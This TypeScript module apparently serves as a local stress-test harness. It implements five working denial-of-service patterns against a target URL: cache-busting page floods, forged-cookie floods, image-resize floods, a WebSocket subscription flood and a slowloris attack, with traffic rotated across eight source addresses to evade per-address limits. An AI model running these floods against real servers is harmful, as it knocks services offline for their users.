import { once } from 'node:events';
import { Agent, get } from 'node:http';
import { connect, type Socket } from 'node:net';

export type AttackName = 'pages' | 'forged' | 'sockets' | 'pictures' | 'slow';

export interface Target {
  url: string;
  /** Of pictures that exist. */
  pictures: string[];
}

/** Eight neighbours: what one address alone may do is not the question. */
const addresses = Array.from({ length: 8 }, (_, at) => `127.0.9.${at + 1}`);
const agents = addresses.map((localAddress) => new Agent({ keepAlive: true, localAddress }));

let number = 0;
let going = true;
export const stop = (): void => {
  going = false;
};

/** Answers by status, and cuts. */
export const outcomes = new Map<string, number>();
const note = (outcome: string | number | undefined): void => {
  outcomes.set(String(outcome), (outcomes.get(String(outcome)) ?? 0) + 1);
};

async function ask(url: string, headers: Record<string, string>): Promise<void> {
  await new Promise<void>((resolve) => {
    const failed = () => {
      note('cut');
      resolve();
    };
    get(url, { headers, agent: agents[number++ % agents.length]! }, (response) => {
      note(response.statusCode);
      response.resume();
      response.on('close', resolve);
    }).on('error', failed);
  });
}

/** So many at once, each asking again as soon as it is answered. */
const crowd = (size: number, once: () => Promise<void>) => async (): Promise<void> => {
  await Promise.all(
    Array.from({ length: size }, async () => {
      while (going) await once();
    }),
  );
};

const distinctPages = ({ url }: Target) =>
  crowd(30, () => ask(`${url}/catalog/diamonds/?page=${1 + (number % 90)}&price_from=${number}`, {}));

const forgedCookies = ({ url }: Target) =>
  crowd(300, () =>
    ask(`${url}/api/internal/user/auctions/`, {
      cookie: `session=${number}${'x'.repeat(40)}.${'y'.repeat(43)}`,
    }),
  );

const pictureSizes = ({ url, pictures }: Target) =>
  crowd(40, () => {
    const turn = number;
    const width = [160, 240, 320, 480, 640, 960][turn % 6];
    return ask(`${url}/pictures/${pictures[turn % pictures.length]}/${width}`, {
      accept: turn % 2 ? 'image/avif' : 'image/webp',
    });
  });

/** A hundred sockets, 480 wishes each: 48,000 topics that nobody knows; then all over again. */
const socketFlood = ({ url }: Target) =>
  crowd(100, async () => {
    const socket = await upgrade(url);
    if (!socket) return;
    const gone = once(socket, 'close').catch(() => {});
    for (let wish = 0; wish < 480 && !socket.destroyed; wish++)
      socket.write(
        maskedFrame(JSON.stringify({ do: 'subscribe', topic: `lot:${900_000 + number++}`, after: 0 })),
      );
    await Promise.race([gone, new Promise((resolve) => setTimeout(resolve, 1000))]);
    socket.destroy();
  });

async function upgrade(url: string): Promise<Socket | undefined> {
  const { hostname, port, origin } = new URL(url);
  const socket = connect({
    host: hostname,
    port: Number(port),
    localAddress: addresses[number++ % addresses.length]!,
  });
  socket.on('error', () => note('cut'));
  socket.write(
    [
      'GET /live/ HTTP/1.1',
      `Host: ${hostname}:${port}`,
      `Origin: ${origin}`,
      'Upgrade: websocket',
      'Connection: Upgrade',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      '\r\n',
    ].join('\r\n'),
  );
  const first = await once(socket, 'data').catch(() => undefined);
  const status = /^HTTP\/1\.1 (\d+)/.exec(String(first?.[0]))?.[1];
  note(status);
  socket.resume();
  if (status === '101') return socket;
  socket.destroy();
  return undefined;
}

/** A short text frame as a browser sends it; the mask is zeros. */
function maskedFrame(text: string): Buffer {
  const body = Buffer.from(text);
  return Buffer.concat([Buffer.from([0x81, 0x80 | body.length, 0, 0, 0, 0]), body]);
}

/** Eight hundred connections whose requests never come to an end. */
const slowConnections =
  ({ url }: Target) =>
  async (): Promise<void> => {
    const { hostname, port } = new URL(url);
    const open = new Set<Socket>();
    const enter = () => {
      const localAddress = addresses[number++ % addresses.length]!;
      const socket = connect({ host: hostname, port: Number(port), localAddress });
      socket.on('error', () => note('cut'));
      socket.on('close', () => open.delete(socket));
      socket.on('connect', () => note('connected'));
      socket.write(`GET / HTTP/1.1\r\nHost: ${hostname}:${port}\r\n`);
      open.add(socket);
    };
    while (going) {
      while (open.size < 800) enter();
      for (const socket of open) socket.write('X-Slow: 1\r\n');
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    for (const socket of open) socket.destroy();
  };

export const attacks: Record<AttackName, (target: Target) => () => Promise<void>> = {
  pages: distinctPages,
  forged: forgedCookies,
  sockets: socketFlood,
  pictures: pictureSizes,
  slow: slowConnections,
};
